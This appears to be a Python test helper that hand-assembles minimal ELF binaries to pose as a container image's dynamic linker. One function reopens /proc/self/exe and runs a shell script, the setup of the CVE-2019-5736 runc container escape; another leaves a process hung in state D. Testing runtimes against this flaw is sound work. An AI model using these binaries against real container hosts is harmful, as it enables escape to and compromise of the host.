"""Programs of a few machine instructions, for what an image may bring as its dynamic linker.

No compiler is needed: the instructions of both architectures are few enough to be put together
here.
"""

from __future__ import annotations

import os
import struct

BASE = 0x10000000
_CODE = 64 + 56  # behind the ELF header and one program header
_DATA = 0x400

MACHINES = {"x86_64": 62, "aarch64": 183}
# Where each architecture's programs have their dynamic linker (PT_INTERP).
LOADERS = {"x86_64": "lib64/ld-linux-x86-64.so.2", "aarch64": "lib/ld-linux-aarch64.so.1"}

O_PATH = 0x200000


def machine() -> str:
    return os.uname().machine


def open_self_and_run(script: str) -> bytes:
    """Return a program that opens /proc/self/exe as fd 3, and then is `sh -c script`.

    Nobody executes what is open then, so the kernel would let it be written to (CVE-2019-5736).
    """
    data = b""
    addresses = []
    for text in (b"/proc/self/exe", b"/bin/sh", b"-c", script.encode()):
        addresses.append(BASE + _DATA + len(data))
        data += text + b"\0"
    data += b"\0" * (-len(data) % 8)
    argv = BASE + _DATA + len(data)
    data += struct.pack("<4Q", addresses[1], addresses[2], addresses[3], 0)
    make = {"x86_64": _x86_64, "aarch64": _aarch64}[machine()]
    code = make(addresses[0], addresses[1], argv)
    return _elf(code.ljust(_DATA - _CODE, b"\0") + data)


def wait_in_vfork() -> bytes:
    """Return a program whose process is in state D: its child, which waits, was made by vfork(2).

    A signal that kills ends that, unlike with a disk that does not answer.
    """
    if machine() == "x86_64":
        return _elf(b"\xb8\x3a\0\0\0\x0f\x05" + b"\xb8\x22\0\0\0\x0f\x05")  # vfork, pause

    def move(register: int, value: int) -> bytes:  # movz
        return struct.pack("<I", 0xD2800000 | value << 5 | register)

    call, vfork = struct.pack("<I", 0xD4000001), 0x4111  # CLONE_VFORK | CLONE_VM | SIGCHLD
    cloned = move(8, 220) + move(0, vfork) + b"".join(move(n, 0) for n in (1, 2, 3, 4)) + call
    return _elf(cloned + move(8, 73) + b"".join(move(n, 0) for n in range(5)) + call)  # ppoll


def _elf(content: bytes) -> bytes:
    """Return an executable of one segment that is loaded at BASE."""
    size = _CODE + len(content)
    ident = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, MACHINES[machine()], 1, BASE + _CODE, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    return header + struct.pack("<IIQQQQQQ", 1, 7, 0, BASE, BASE, size, size, 0x1000) + content


def _x86_64(exe: int, shell: int, argv: int) -> bytes:
    def move(register: int, value: int) -> bytes:  # mov r32, imm32
        return bytes([0xB8 + register]) + struct.pack("<I", value)

    rax, rdx, rsi, rdi, call = 0, 2, 6, 7, b"\x0f\x05"
    opened = move(rax, 2) + move(rdi, exe) + move(rsi, O_PATH) + move(rdx, 0) + call
    return opened + move(rax, 59) + move(rdi, shell) + move(rsi, argv) + move(rdx, 0) + call


def _aarch64(exe: int, shell: int, argv: int) -> bytes:
    def move(register: int, value: int) -> bytes:  # movz, movk … lsl 16
        low = 0xD2800000 | (value & 0xFFFF) << 5 | register
        return struct.pack("<II", low, 0xF2A00000 | value >> 16 << 5 | register)

    no_directory, call = struct.pack("<I", 0x92800000 | 99 << 5), struct.pack("<I", 0xD4000001)
    opened = move(8, 56) + no_directory + move(1, exe) + move(2, O_PATH) + move(3, 0) + call
    return opened + move(8, 221) + move(0, shell) + move(1, argv) + move(2, 0) + call
